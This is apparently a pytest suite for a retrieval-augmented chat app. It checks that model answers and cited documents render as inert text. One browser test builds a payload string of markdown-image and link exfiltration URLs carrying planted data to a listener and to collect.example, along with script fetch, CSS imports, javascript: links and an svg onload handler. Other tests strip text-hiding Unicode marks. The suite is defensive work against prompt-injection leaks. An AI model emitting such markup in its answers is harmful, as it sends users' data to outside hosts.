"""What the page makes of a model that writes pictures, links and elements: text, which asks for nothing and leads nowhere."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from ragdesk_browser import open_tab, serving, until, window
from scripted import ScriptedModel, make_document, make_hit
from selectolax.lexbor import LexborHTMLParser

from injection import documents as make
from injection.cases import ANSWER, CASES, LEAKS, PLANTED, QUESTION, Case, of
from ragdesk.app.app import App
from ragdesk.domain.answers import Answer, Citation, Sentence, Timings
from ragdesk.domain.ports import Cancelled, Prompt, never
from ragdesk.front.web import texts
from ragdesk.front.web.tabs.chat import render_chat, render_evidence
from ragdesk.front.web.tabs.citations import render_citations, render_passage
from ragdesk.front.web.tabs.library import render_details
from ragdesk.host.paths import open_home

LOADING = ("src", "srcset", "poster", "data", "background", "action", "formaction", "ping", "xlink:href")
TURNED = f"\u202e{PLANTED}\u202c \u2067x\u2069 {''.join(chr(0xE0000 + ord(c)) for c in PLANTED)}"


def inert(html: str) -> None:
    """No script, nothing that is loaded, no link but to actions and our own routes, no style from outside."""
    tree = LexborHTMLParser(f"<body>{html}</body>")
    assert tree.body is not None
    for node in tree.body.traverse():
        assert node.tag not in (
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "base",
            "link",
            "meta",
            "svg",
        )
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            assert name not in LOADING
            assert name != "href" or (value or "").startswith(("#rd:", "/ragdesk/"))


def answered(said: str, quote: str) -> Answer:
    citation = Citation(1, "c" * 12, "d" * 16, said, said, None, said, quote, 0, len(quote))
    return Answer(
        question=said,
        standalone_question=f"{said}?",
        text=f"{said} {said}",
        verdict="answered",
        citations=(citation,),
        sentences=(Sentence(said, (1,), True), Sentence(said, (), False)),
        hits=(make_hit(quote),),
        timings=Timings(0.1),
        model="scripted",
    )


@pytest.mark.parametrize("case", of(CASES))
def test_an_answer_and_its_evidence_are_inert(case: Case, tmp_path: Path) -> None:
    content = case.write(tmp_path).read_bytes().decode("utf-8", "replace")
    given = answered(case.says, content)
    for end in range(0, len(case.says) + 1, 3):
        inert(render_chat.writing(case.says[:end]))
    inert(render_chat.answer(given, "key"))
    inert(render_evidence.evidence(given.hits, {"d" * 16: case.says}, case.says))
    cited = render_citations.Cited("key", given, given.citations[0])
    inert(render_citations.citations([cited], (0, 1), cited.key, {cited.key: "unchanged"}))
    inert(render_passage.passage(content, (5, 60), make_document()))


@pytest.mark.parametrize("case", of(LEAKS))
def test_a_sentence_without_support_is_flagged(case: Case) -> None:
    shown = LexborHTMLParser(render_chat.answer(answered(case.says, make.HONEST[1]), "key"))
    [flagged] = shown.css(".rd-unsupported")
    assert flagged.text() == case.says
    assert len(shown.css(".rd-flag")) == 1


def test_marks_that_turn_or_hide_text_are_not_written() -> None:
    for html in (
        texts.escape(TURNED),
        texts.prose(TURNED),
        texts.name(TURNED),
        texts.marked(TURNED, "x"),
    ):
        assert not any(mark in html for mark in "\u202e\u202c\u2067\u2069\U000e0042")
        assert PLANTED in html


class Served(ScriptedModel):
    """Says the same to whatever the app asks of it, in the background too."""

    def __init__(self, answer: str) -> None:
        super().__init__([answer] * 20)

    def warm(self, prompt: Prompt, cancelled: Cancelled = never) -> None:
        """Has nothing to read."""


@contextmanager
def listening() -> Iterator[tuple[str, list[bytes]]]:
    """The address of a stranger on this machine, and what it was told. Unlike a request log, it sees preconnections too."""
    told: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        done = threading.Event()

        def listen() -> None:
            while not done.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    connection.settimeout(2)
                    told.append(connection.recv(200))

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield f"127.0.0.1:{server.getsockname()[1]}", told
        finally:
            done.set()
            thread.join()


@pytest.mark.browser
@pytest.mark.usefixtures("the_model_writes")
@pytest.mark.timeout(300)
@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_an_answer_full_of_leaks_asks_nobody_anything(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with listening() as (stranger, told):
        leaks = " ".join(
            (
                f"![a](http://{stranger}/?q={PLANTED}) [b](http://{stranger}/?q={PLANTED}) <http://{stranger}/auto>",
                f"<img src='http://{stranger}/i'><iframe src='http://{stranger}/f'></iframe>",
                f"<link rel=stylesheet href='http://{stranger}/s'><style>@import 'http://{stranger}/t';</style>",
                f"<div style=\"background:url(http://{stranger}/d)\">x</div><script>fetch('http://{stranger}/j')</script>",
                f"[c](javascript:fetch('http://{stranger}/k')) <a href='data:text/html,x'>d</a> <svg onload=alert(1)>",
                "http://collect.example/?q=1 ![e](https://collect.example/p.png)",
            )
        )
        make.markdown(tmp_path, leaks)
        app = App.open(open_home(tmp_path / "home"))
        list(app.intake.add([tmp_path / "filter.md"]))
        model = Served(f"{ANSWER}\n\n{leaks}")
        monkeypatch.setattr(app.engines, "llm", lambda: model)
        with serving(app) as url, window() as (page, seen):
            page.goto(url)
            open_tab(page, "Chat")
            page.fill("#rd-question textarea", QUESTION)
            page.click("#rd-ask")
            page.wait_for_selector("a.rd-cite", timeout=60_000)
            assert f"![a](http://{stranger}/?q={PLANTED})" in page.inner_text("#rd-thread")
            page.click("a.rd-cite")
            page.wait_for_selector("#rd-beside-viewer mark", timeout=30_000)
            assert stranger in page.inner_text("#rd-beside-viewer")
            open_tab(page, "Library")
            page.click("#rd-documents a.rd-title")
            until(page, lambda: "passage" in page.inner_text("#rd-document"))
            view = page.context.new_page()
            view.goto(f"{url.split('?')[0]}ragdesk/view/{app.library.documents.all()[0].id}")
            assert stranger in view.inner_text("body")
            view.wait_for_timeout(500)
            served = urlsplit(url).netloc
            assert [one for one in seen.requests if urlsplit(one).netloc not in ("", served)] == []
            assert seen.foreign() == [] and seen.dialogs == [] and seen.violations() == []
        app.close()
        assert told == []


def test_the_page_of_a_text_is_text(tmp_path: Path) -> None:
    app = App.open(open_home(tmp_path / "home"))
    [added] = app.intake.add([next(case for case in LEAKS if "page" in case.name).write(tmp_path)])
    assert added.document_id
    document, text = app.library.document(added.document_id), app.library.text(added.document_id)
    page = LexborHTMLParser(render_details.text_page(document, text))
    assert page.css("img, iframe, script, a, link[href]") == []
    app.close()
